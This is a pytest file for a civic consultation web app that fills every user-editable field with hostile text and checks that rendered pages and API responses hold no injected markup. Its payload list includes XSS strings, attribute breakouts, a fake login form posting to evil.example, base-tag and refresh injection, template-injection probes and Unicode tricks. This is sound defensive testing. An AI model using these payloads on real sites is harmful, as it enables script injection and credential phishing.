"""Whatever people write stays words: no element, attribute or address on any page but what the templates write.

One town is built with a hostile text in every field and read page by page; the same town with harmless words shows
what its pages are made of.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree.ElementTree import Element

import brs_kb
import html5lib
import pytest
from apiflask import APIFlask
from sqlalchemy.orm import Session

from app.accounts.actions import change_profile
from app.agencies.actions import add_agency
from app.agencies.rules import AgencyInput
from app.cases import assigning
from app.cases.models import CaseTransfer
from app.cases.notes import write_note
from app.cases.queries import case_by_id, case_of_topic
from app.cases.transfers import decline_transfer, offer_transfer
from app.comments import actions as discussion
from app.comments.rules import CommentInput, Stance
from app.core.answers import Outcome
from app.core.clock import FixedClock
from app.core.context import Context
from app.core.permissions import Role
from app.core.policy import Policy
from app.extensions import db
from app.followups.actions import give_feedback
from app.followups.milestones import add_milestone, move_milestone
from app.followups.queries import after_reply
from app.followups.rules import FeedbackInput, MilestoneInput, NewsInput, ProgressInput, Verdict
from app.followups.studies import publish_end, refuse_end, report
from app.instance.actions import change_settings
from app.instance.queries import forget_settings
from app.instance.rules import SettingsInput
from app.issues import actions as issues
from app.issues.attaching import attach
from app.issues.queries import issue_by_slug
from app.issues.rules import IssueTerms, IssueTexts, PromiseLevel
from app.opinions.actions import add_statement
from app.policies.actions import publish_policy
from app.policies.rules import PublicationInput
from app.replies.correcting import publish_correction, submit_correction
from app.replies.drafting import submit_reply
from app.replies.holding import publish_holding, write_holding
from app.replies.publishing import publish_reply
from app.replies.queries import reply_of
from app.replies.rules import Answer, DraftInput
from app.topics.rules import Part
from moderation import clean_line
from moderation.render import SCHEMES, TAGS
from tests.conftest import NOON, empty
from tests.support.builders import MadePerson, Make
from tests.support.pages import Browser

Work = Callable[..., AbstractContextManager[Context]]
HARMLESS = "Words about buses"
CONTEXTS = ("html_content", "html_attribute", "markdown", "url", "svg", "mathml", "href", "template_injection", "css")
OWN = (
    "javascript:alert(1)",
    "[a](javascript:alert(1)) [b](jav&#x09;ascript:alert(1)) [c](data:text/html,1) <javascript:alert(1)>",
    "[a](//evil.example) [b](https://minyi@evil.example) [c](/\\evil.example) ![d](https://evil.example/x.png)",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onload=alert(1) `",
    "</textarea></title></script><script>alert(1)</script>",
    "--><svg/onload=alert(1)><!--",
    "<form action=https://evil.example><input name=password><button>Sign in",
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>",
    "<a id=csrf_token name=csrf_token>x</a><template><style>*{display:none}",
    "{{7*7}}{% for a in b %}${7*7}#{7*7}{{config}}",
    "%s %(name)s %d {0} {name} %",
    "before\0after<script\0>alert(1)</script>",
    "before\ud800after\udfff",
    "\u202etxt.exe\u2066\u200f\u200b\u2028<b>\ufeff",
    "\U000e0041\ufff9a\ufffab\ufffb" + "e" + "\u0301" * 30,
    "W" * 60,
    "&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=1> | [x](vbscript:1) |",
    "```\n<script>alert(1)</script>\n```",
    "\u3000ＳＣＲＩＰＴ＜script＞alert(1)＜/script＞",
)


def known(number: int = 2) -> Iterator[str]:
    """Of every context of the collection the first few payloads that fit into every field."""
    for context in CONTEXTS:
        fitting = [one["payload"] for one in brs_kb.get_all_payloads().values() if context in one["contexts"]]
        yield from sorted((one for one in fitting if 12 <= len(one) <= 50), key=lambda one: (len(one), one))[-number:]


HOSTILE = list(dict.fromkeys([*OWN, *known()]))
SINGLE = {"script", "style", "link", "meta", "base", "iframe", "object", "embed", "form", "input", "button", "textarea"}
SINGLE |= {"select", "svg", "math", "img", "video", "audio", "template", "title", "html", "head", "body", "main", "nav"}
"""Elements of which a page holds as many as its template says, whatever people wrote."""
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href"}
IN_PROSE = {("a", "href"), ("a", "rel"), ("ol", "start"), ("td", "class"), ("th", "class"), ("table", "tabindex")}

DRAWN_BY_LENGTH = {("ins", ""), ("del", ""), ("span", ""), ("span", "class"), ("blockquote", "class")}
"""What templates write or leave out by the length of a text, or by what changed in it."""


@dataclass
class Shape:
    """What a page is made of: how many of the elements that act, and which attributes on which elements."""

    acting: Counter[str] = field(default_factory=Counter)
    attributes: set[tuple[str, str]] = field(default_factory=set)
    text: str = ""


def shape(page: str) -> Shape:
    """Read a page as a browser does. Fails for an address with a scheme that has no business on a page."""
    root = html5lib.parse(page, namespaceHTMLElements=False)
    found = Shape(text=" ".join("".join(root.itertext()).split()))
    for element in root.iter():
        if isinstance(element.tag, str):
            _count(element, found)
    return found


def _count(element: Element, found: Shape) -> None:
    tag = element.tag.rpartition("}")[2]
    if tag in SINGLE:
        found.acting[tag] += 1
    found.attributes.add((tag, ""))
    for name, value in element.attrib.items():
        found.attributes.add((tag, name))
        assert not name.startswith("on"), (tag, name)
        assert name != "style", (tag, value)
        if name in ADDRESSES:
            scheme = re.match(r"([a-zA-Z][^/?#]*?):", re.sub(r"[\0-\x20]", "", value))
            assert scheme is None or scheme[1].lower() in SCHEMES | {"tel"}, (tag, name, value)
            assert not value.lstrip().startswith(("//", "/\\")), (tag, name, value)
            assert "evil.example" not in value or (tag, name) == ("a", "href") or value.startswith("/"), value


@dataclass
class Town:
    """Every field people can write in holds the same text."""

    make: Make
    work: Work
    clock: FixedClock
    text: str
    addresses: list[str] = field(default_factory=list)
    people: dict[str, MadePerson] = field(default_factory=dict)
    folder: Path = Path()

    def fits(self, longest: int) -> str:
        """The text as far as a field takes it; never empty, whatever is cleaned away."""
        return f"{self.text[: longest - 2]} q"

    def build(self) -> None:
        """Settings and agency, an issue that is open, one that was withdrawn, one that was answered."""
        self.people["administrator"] = self.make.person(administrator=True)
        agency = self.govern()
        for name, role in (("author", Role.AUTHOR), ("approver", Role.APPROVER)):
            self.people[name] = self.make.officer(agency, role)
        self.people["citizen"] = self.make.person()
        for person in self.people.values():
            with self.work(person.actor) as ctx:
                change_profile(ctx, self.fits(60), "en")
        self.open = self.ask()
        self.discuss(self.open)
        self.answered = self.ask()
        self.answer(self.answered)
        self.withdrawn = self.ask()
        with self.work(self.people["approver"].actor) as ctx:
            issues.withdraw(ctx, issue_by_slug(ctx, self.withdrawn), {"en": self.fits(900)})

    def govern(self) -> int:
        both = {"en": self.fits(60), "zh-Hant-TW": self.fits(60)}
        with self.work(self.people["administrator"].actor) as ctx:
            change_settings(ctx, SettingsInput(both, both, "office@example.org", "Asia/Taipei"))
            # Half characters cannot be in JSON at all.
            names = {lang: text.encode(errors="ignore").decode() for lang, text in both.items()}
            pause = {"name": names, "first_day": "2027-01-01", "last_day": "2027-01-02"}
            rules = Policy.from_json({"pauses": [pause]})
            publish_policy(ctx, PublicationInput(rules, ctx.today, both, dict.fromkeys(both, self.fits(490))))
            lists = {"en": [self.fits(200)], "zh-Hant-TW": [self.fits(200)]}
            return add_agency(ctx, AgencyInput("agency", both, "a@example.org", self.fits(40), "", lists)).id

    def ask(self) -> str:
        """An issue whose every text was changed once after it was published, with a file."""
        texts = dict.fromkeys(("title", "summary", "background", "still_open", "decided"), self.fits(190))
        with self.work(self.people["approver"].actor) as ctx:
            terms = IssueTerms(PromiseLevel.CONSULT, ctx.today + timedelta(days=9), "agency")
            issue = issues.draft(ctx, IssueTexts("en", area=self.fits(80), **texts), terms)
            issues.publish(ctx, issue, issue.revision)
            texts["background"] += "\n\nOne more paragraph."
            again = IssueTexts("en", area=self.fits(80), **texts)
            issues.revise(ctx, issue, again, revision=issue.revision, note=self.fits(190))
            attach(ctx, issue, b"%PDF-1.7\nThe plan.", f"{self.text}.pdf", self.folder)
            return issue.topic.slug

    def discuss(self, slug: str) -> None:
        citizen = self.people["citizen"].actor
        entered = CommentInput(self.fits(2000), "en", Stance.FOR)
        with self.work(citizen) as ctx:
            topic = issue_by_slug(ctx, slug).topic
            add_statement(ctx, topic, f"{self.fits(200)} Buses", "en")
            comment = discussion.write(ctx, topic, entered).id
            discussion.write(ctx, topic, CommentInput(self.fits(2000), "en", Stance.NEUTRAL, comment))
        self.clock.advance(timedelta(minutes=9))
        with self.work(citizen) as ctx:
            changed = CommentInput(f"{entered.text}\n\nChanged.", "en", Stance.AGAINST)
            discussion.edit(ctx, issue_by_slug(ctx, slug).topic, comment, changed)
        self.comment = comment

    def said(self) -> Answer:
        """Every part of an answer, in these words."""
        return Answer(
            Outcome.UNDER_STUDY,
            self.fits(900),
            basis=self.fits(900),
            next_step=self.fits(400),
            next_step_on=self.clock.now().date(),
            contact=self.fits(200),
        )

    def answer(self, slug: str) -> None:
        with self.work(self.people["citizen"].actor) as ctx:
            topic = issue_by_slug(ctx, slug).topic
            statement = add_statement(ctx, topic, f"{self.fits(200)} Buses", "en").id
        self.make.map(topic.id, {statement: 1})
        with self.work(self.people["approver"].actor) as ctx:
            issues.close(ctx, issue_by_slug(ctx, slug))
        with self.work(self.people["author"].actor) as ctx:
            case = case_of_topic(ctx, topic.id)
            assert case is not None
            self.case = case.id
            held = write_holding(ctx, case, self.fits(900), "en").revision
            write_note(ctx, case, self.fits(900))
        with self.work(self.people["approver"].actor) as ctx:
            publish_holding(ctx, case_by_id(ctx, self.case), held)
        self.share(topic.id)
        with self.work(self.people["author"].actor) as ctx:
            case = case_by_id(ctx, self.case)
            answers = {one.id: self.said() for one in case.demands}
            submit_reply(ctx, case, DraftInput(self.fits(900), "en", self.fits(290), answers))
        with self.work(self.people["approver"].actor) as ctx:
            case = case_of_topic(ctx, topic.id)
            assert case is not None
            reply = reply_of(ctx, case)
            assert reply is not None
            publish_reply(ctx, case, reply.revision)
        self.correct()
        self.follow(topic.id)

    def correct(self) -> None:
        """Twice: one correction is public, the other one waits."""
        for summary in ("First", "Second"):
            with self.work(self.people["author"].actor) as ctx:
                case = case_by_id(ctx, self.case)
                entered = DraftInput(f"{summary} {self.fits(900)}", "en", self.fits(290))
                revision = submit_correction(ctx, case, entered, self.fits(900)).revision
            if summary == "First":
                with self.work(self.people["approver"].actor) as ctx:
                    publish_correction(ctx, case_by_id(ctx, self.case), revision)

    def share(self, topic_id: int) -> None:
        """Another agency takes part and contributes, a third is released; the case is offered, and declined."""
        taking, leaving = self.make.agency(), self.make.agency()
        with self.work(self.people["approver"].actor) as ctx:
            case = case_of_topic(ctx, topic_id)
            assert case is not None
            lead = case.lead.agency_id
            for agency_id in (taking, leaving):
                assigning.add_agency(ctx, case, agency_id, Part.CO, self.fits(290))
            assigning.release_agency(ctx, case, leaving, self.fits(290))
            offer_id = offer_transfer(ctx, case, lead, leaving, self.fits(290)).id
        self.make.contribution(self.case, taking, self.fits(900))
        with self.work(self.make.officer(leaving, Role.APPROVER).actor) as ctx:
            case = case_of_topic(ctx, topic_id)
            assert case is not None
            decline_transfer(ctx, case, ctx.get(CaseTransfer, offer_id), self.fits(290))

    def follow(self, topic_id: int) -> None:
        """What follows the reply: feedback, news of a study, its end, a milestone with a note."""
        author = self.people["author"].actor
        with self.work(self.people["citizen"].actor) as ctx:
            give_feedback(ctx, after_reply(ctx, topic_id), FeedbackInput(Verdict.NO, self.fits(490), "en"))
        with self.work(author) as ctx:
            study = after_reply(ctx, topic_id).studies[0].id
            report(ctx, study, NewsInput(self.fits(2000), "en"))
            refused = report(ctx, study, NewsInput(self.fits(2000), "en", Outcome.ADOPTED)).id
        with self.work(self.people["approver"].actor) as ctx:
            refuse_end(ctx, study, refused, self.fits(900))
        with self.work(author) as ctx:
            end = report(ctx, study, NewsInput(self.fits(2000), "en", Outcome.ADOPTED)).id
        with self.work(self.people["approver"].actor) as ctx:
            publish_end(ctx, study, end)
        with self.work(author) as ctx:
            after = after_reply(ctx, topic_id)
            due_on = ctx.today + timedelta(days=30)
            step = add_milestone(ctx, after, after.case.demands[0].id, MilestoneInput({"en": self.fits(110)}, due_on))
            move_milestone(ctx, step.id, ProgressInput(40, due_on + timedelta(days=1), self.fits(900), "en"))
            self.step = step.id
        self.clock.advance(timedelta(days=8))

    def pages(self) -> dict[str, list[str]]:
        """Who reads which pages."""
        asked = quote(self.text.encode(errors="replace").replace(b"\0", b""))
        here, there = f"/en/issues/{self.open}", f"/en/issues/{self.answered}"
        thread = f"{here}/discussion/{self.comment}"
        public = ["/", "/en/", "/en/issues", f"/en/issues?q={asked}", f"/en/sign-in?next={asked}", "/en/agencies"]
        public += ["/en/agencies/agency", "/en/board", f"/en/issues?agency=agency&state={asked}", here]
        public += ["/en/rules/policy", "/en/policies/1?since=0"]
        public += ["/en/board?state=all", "/en/board?agency=agency", "/en/feeds"]
        public += [f"{here}/versions", f"{here}/opinion", f"{here}/discussion", thread, f"{thread}/versions"]
        public += [f"{here}/reply", there, f"{there}/reply", f"{there}/map", f"/en/issues/{self.withdrawn}"]
        public += [f"{there}/reply/versions", f"{there}/reply/versions/1", f"{there}/reply/versions/2"]
        public += [f"{there}/reply/after"]
        mine = ["/en/account", f"{here}/opinion/mine", f"{here}/opinion/new", f"{thread}/edit", f"{here}/discussion"]
        desk = ["/en/desk", f"/en/desk/issues/{self.open}/edit", f"/en/desk/issues/{self.open}/files"]
        desk += [f"/en/desk/issues/{self.open}/withdraw", f"/en/desk/cases/{self.case}", "/en/desk/issues/new"]
        desk += [f"/en/desk/cases/{self.case}/correction", f"/en/desk/cases/{self.case}/holding"]
        desk += [f"/en/desk/cases/{self.case}/agencies", f"/en/desk/cases/{self.case}/notes", "/en/desk/absences"]
        desk += [f"/en/desk/cases/{self.case}/after", f"/en/desk/milestones/{self.step}"]
        admin = ["/en/admin", "/en/admin/settings", "/en/admin/agencies/agency", "/en/admin/agencies/new"]
        admin += ["/en/admin/policy", "/en/admin/policy?as=text"]
        return {"visitor": public, "citizen": mine, "approver": desk, "administrator": admin}

    def operations(self) -> list[str]:
        """What programs read."""
        of = [f"/issues/{self.open}{part}" for part in ("", "/versions", "/statements", "/comments")]
        of += [f"/issues/{self.answered}/case{part}" for part in ("", "/versions", "/followups")]
        return ["/agencies", "/policies", "/policies/1", "/issues", *of, f"/issues/{self.withdrawn}"]


@pytest.fixture
def build(app: APIFlask, make: Make, work: Work, clock: FixedClock) -> Callable[[str], Town]:
    def built(text: str) -> Town:
        with Session(db.engine) as session, session.begin():
            empty(session)
        forget_settings()
        clock.travel_to(NOON)
        town = Town(make, work, clock, text)
        town.folder = app.config["CONFIG"].files
        town.build()
        return town

    return built


def shapes(app: APIFlask, town: Town) -> list[tuple[str, Shape]]:
    """Every page of the town."""
    found = []
    for reader, addresses in town.pages().items():
        browser = Browser(app)
        if reader != "visitor":
            browser.sign_in(town.people[reader])
        found += [(f"{reader} {number}", shape(browser.open(one))) for number, one in enumerate(addresses)]
    return found


PLAIN: dict[str, Shape] = {}


@pytest.fixture
def plain(app: APIFlask, build: Callable[[str], Town]) -> dict[str, Shape]:
    """What the pages are made of where everybody writes harmless words; read once."""
    if not PLAIN:
        PLAIN.update(shapes(app, build(HARMLESS)))
    return PLAIN


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_text_is_words_on_every_page(
    app: APIFlask, build: Callable[[str], Town], plain: dict[str, Shape], text: str
) -> None:
    town = build(text)
    shown = 0
    for page, found in shapes(app, town):
        assert found.acting == plain[page].acting, page
        strange = found.attributes - plain[page].attributes - IN_PROSE - {(tag, "") for tag in TAGS}
        assert not strange - DRAWN_BY_LENGTH, page
        shown += " ".join(clean_line(town.fits(60)).split()) in found.text
        assert not re.search("[\0\ud800-\udfff\u202a-\u202e\u2066-\u2069]", found.text), page
    assert shown > 20


@pytest.mark.parametrize("text", HOSTILE[::4], ids=range(len(HOSTILE[::4])))
def test_a_text_is_data_over_the_api(app: APIFlask, build: Callable[[str], Town], text: str) -> None:
    town = build(text)
    for address in town.operations():
        answer = app.test_client().get(f"/api/v1{address}")
        assert answer.status_code == 200, address
        assert answer.mimetype == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        for markup in markups(answer.get_json()):
            found = shape(markup)
            assert {tag for tag, _ in found.attributes} <= TAGS | {"html", "head", "body"}
            assert {one for one in found.attributes if one[1]} <= IN_PROSE


def markups(told: Any, name: str = "") -> Iterator[str]:
    """Every field of an answer that says it is markup."""
    if isinstance(told, dict):
        for key, value in told.items():
            yield from markups(value, key)
    elif isinstance(told, list):
        for value in told:
            yield from markups(value, name)
    elif isinstance(told, str) and name.endswith("html"):
        yield told


def test_the_reading_would_notice() -> None:
    for bad in ("<a href='java\tscript:1'>", "<p onclick=1>", "<p style=x>", "<form action=//evil.example>"):
        with pytest.raises(AssertionError):
            shape(f"<main>{bad}")
    assert shape("<main><script></script>").acting != shape("<main>").acting
